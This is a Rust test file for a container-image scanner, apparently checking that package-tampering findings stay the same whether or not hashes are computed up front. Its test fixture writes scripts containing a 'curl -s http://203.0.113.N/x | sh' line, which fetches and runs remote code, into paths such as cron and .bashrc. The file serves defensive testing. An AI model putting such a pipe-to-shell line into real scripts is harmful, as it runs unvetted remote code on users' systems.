//! The law behind hashes that are not always taken: a report is the same as if all had been.

use feeds::{Indicators, Kind, Options as Import};
use model::Report;
use pipeline::scan;
use proptest::prelude::*;
use source::Locator;
use std::collections::BTreeMap;
use std::sync::atomic::Ordering;
use test_support::{ImageBuilder, LayerBuilder, standin};

/// An image of a database, files below and files above it.
#[derive(Debug, Clone, Default)]
struct Case {
    below: Vec<(&'static str, Content)>,
    above: Vec<(&'static str, Content)>,
    /// Paths of one package, as it writes them, with the content that it promises.
    owned: Vec<(&'static str, Content)>,
    /// Paths that are put elsewhere, of a package and to where.
    diverted: Option<(&'static str, &'static str)>,
    database_above: bool,
    apk: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Content {
    Program(u8),
    Script(u8),
    Text(u8),
    /// Of the file at this path of the same layer.
    LinkTo(&'static str),
}
use Content::{LinkTo, Program, Script, Text};

fn bytes(content: Content) -> Vec<u8> {
    match content {
        Program(number) => standin::program(&format!("a program of number {number}")),
        Script(number) => format!("#!/bin/sh\ncurl -s http://203.0.113.{number}/x | sh\n").into_bytes(),
        Text(number) => format!("text {number}\n").into_bytes(),
        LinkTo(_) => Vec::new(),
    }
}

fn layer(files: &[(&'static str, Content)]) -> LayerBuilder {
    files.iter().fold(LayerBuilder::new(), |layer, (path, content)| match content {
        LinkTo(target) => layer.hardlink(path, target),
        content => layer.file(path, 0o755, bytes(*content)),
    })
}

fn image(case: &Case) -> Vec<u8> {
    use md5::Digest as _;
    let hex = |bytes: &[u8]| bytes.iter().map(|byte| format!("{byte:02x}")).collect::<String>();
    let mut database = LayerBuilder::new().symlink("bin", "usr/bin");
    if case.apk {
        let files = case.owned.iter().map(|(path, content)| {
            let (dir, name) = path.rsplit_once('/').unwrap_or(("", path));
            format!("F:{dir}\nR:{name}\nZ:X1{}\n", hex(&sha1::Sha1::digest(bytes(*content))))
        });
        let text = format!("P:p\nV:1\n{}\n", files.collect::<String>());
        database = database.file("lib/apk/db/installed", 0o644, text);
    } else {
        let paths: BTreeMap<&str, Content> = case.owned.iter().copied().collect();
        let list: String = paths.keys().map(|path| format!("/{path}\n")).collect();
        let sum = |(path, content): (&&str, &Content)| {
            format!("{}  {path}\n", hex(&md5::Md5::digest(bytes(*content))))
        };
        let sums: String = paths.iter().map(sum).collect();
        let status = "Package: p\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1\n\n";
        database = database
            .file("var/lib/dpkg/info/p.list", 0o644, list)
            .file("var/lib/dpkg/info/p.md5sums", 0o644, sums)
            .file("var/lib/dpkg/status", 0o644, status);
        if let Some((from, to)) = case.diverted {
            database = database.file("var/lib/dpkg/diversions", 0o644, format!("/{from}\n/{to}\n:\n"));
        }
    }
    let mut layers = vec![database, layer(&case.below)];
    if case.database_above {
        layers.reverse();
    }
    layers.push(layer(&case.above));
    let mut image = ImageBuilder::new().config(|config| config.entrypoint(&["/usr/bin/start"]));
    for layer in layers {
        image = image.layer(layer);
    }
    image.build().docker_archive(&["x:1"])
}

/// The report, and how many files were read for it. With a list, every hash is taken from the beginning.
fn report(image: &[u8], listed: bool) -> (Report, u64) {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("image.tar");
    std::fs::write(&file, image).unwrap();
    let list = format!("{} md5\n{} sha1\n", "77".repeat(16), "77".repeat(20));
    let (feed, _) = feeds::import(list.as_bytes(), &Import::named("list").of_kind(Kind::Hashes)).unwrap();
    let settings = crate::settings(Indicators::new(if listed { vec![feed] } else { Vec::new() }));
    let report = scan(&Locator::DockerArchive { path: file, reference: None }, &settings).unwrap();
    (report, settings.watch.progress.files.load(Ordering::Relaxed))
}

/// How often the image is read without all hashes, to come to what is found with them.
fn check(case: &Case, expect: Option<u64>) -> Report {
    let image = image(case);
    let (mut with, files) = report(&image, true);
    let (without, read) = report(&image, false);
    assert!(read == files || read == 2 * files, "{read} of {files} files read: {case:?}");
    assert!(expect.is_none_or(|times| read == times * files), "{read} of {files} files read: {case:?}");
    with.tool.clone_from(&without.tool);
    with.image.reference.clone_from(&without.image.reference);
    with.timing_ms.clone_from(&without.timing_ms);
    assert_eq!(serde_json::to_value(&with).unwrap(), serde_json::to_value(&without).unwrap(), "{case:?}");
    without
}

fn has(report: &Report, id: &str) -> bool {
    report.findings.iter().any(|finding| finding.id == id)
}

const TAMPERED: &str = "S-EVA-PKGTAMPER";

#[test]
fn what_is_asked_for_and_lacking_is_read_again() {
    let one = |path, content, promised, times| {
        let case = Case { below: vec![(path, content)], owned: vec![(path, promised)], ..Case::default() };
        check(&case, Some(times))
    };
    // In a package's usual place, once. A text elsewhere takes a second reading, and so does what differs.
    assert!(!has(&one("usr/bin/x", Script(1), Script(1), 1), TAMPERED));
    assert!(has(&one("usr/bin/x", Script(1), Script(2), 1), TAMPERED));
    assert!(!has(&one("srv/x", Script(1), Script(1), 2), TAMPERED));
    assert!(has(&one("srv/x", Script(1), Script(2), 2), TAMPERED));
    assert!(has(&one("usr/local/bin/x", Script(1), Script(2), 2), TAMPERED));
    // A program may be one of those that are listed by their MD5, wherever it lies.
    assert!(has(&one("srv/x", Program(1), Program(2), 1), TAMPERED));
    // What no package owns is asked for by nobody.
    let case = Case { below: vec![("srv/x", Script(1)), ("app/y", Text(1))], ..Case::default() };
    check(&case, Some(1));
}

#[test]
fn where_a_package_says_that_it_lies_is_where_it_is_looked_for() {
    let case = Case {
        below: vec![("srv/real", Script(1))],
        owned: vec![("usr/bin/x", Script(2))],
        diverted: Some(("usr/bin/x", "srv/real")),
        ..Case::default()
    };
    check(&case, None);
    // A name in its place, the content in another.
    let link = Case {
        below: vec![("srv/real", Script(1)), ("usr/bin/x", LinkTo("srv/real"))],
        owned: vec![("bin/x", Script(2))],
        ..Case::default()
    };
    check(&link, Some(2));
    // Replaced above, and with the database above.
    for database_above in [false, true] {
        let replaced = Case {
            below: vec![("home/x", Script(1)), ("usr/bin/y", Script(1))],
            above: vec![("home/x", Script(2)), ("usr/bin/y", Script(2))],
            owned: vec![("home/x", Script(1)), ("usr/bin/y", Script(1))],
            database_above,
            ..Case::default()
        };
        assert!(has(&check(&replaced, Some(2)), TAMPERED));
    }
}

#[test]
fn promises_in_sha1_are_read_for_as_well() {
    let case = |promised| Case {
        below: vec![("usr/bin/x", Script(1))],
        owned: vec![("usr/bin/x", promised)],
        apk: true,
        ..Case::default()
    };
    assert!(!has(&check(&case(Script(1)), Some(2)), TAMPERED));
    assert!(has(&check(&case(Script(2)), Some(2)), TAMPERED));
}

const PATHS: [&str; 8] =
    ["usr/bin/x", "bin/y", "etc/cron.d/z", "opt/x", "srv/x", "app/x.js", "usr/local/bin/x", "root/.bashrc"];

fn files() -> impl Strategy<Value = Vec<(&'static str, Content)>> {
    let content = (0u8..3, 0u8..3).prop_map(|(kind, number)| match kind {
        0 => Program(number),
        1 => Script(number),
        _ => Text(number),
    });
    let links = Just(LinkTo("srv/x"));
    let file = (0..PATHS.len(), prop_oneof![5 => content, 1 => links]);
    prop::collection::vec(file, 0..6).prop_map(|files| {
        let mut files: Vec<_> = files
            .into_iter()
            .map(|(at, content)| (PATHS[at], content))
            .filter(|file| *file != ("srv/x", LinkTo("srv/x")))
            .collect();
        // The target of a link stands before it.
        files.sort_by_key(|(_, content)| matches!(content, LinkTo(_)));
        files
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn a_report_does_not_depend_on_which_hashes_were_taken_first(
        below in files(),
        above in files(),
        owned in files(),
        diverted in prop::option::of((0..PATHS.len(), 0..PATHS.len())),
        database_above in any::<bool>(),
        apk in any::<bool>(),
    ) {
        let diverted = diverted.map(|(from, to)| (PATHS[from], PATHS[to]));
        check(&Case { below, above, owned, diverted, database_above, apk }, None);
    }
}
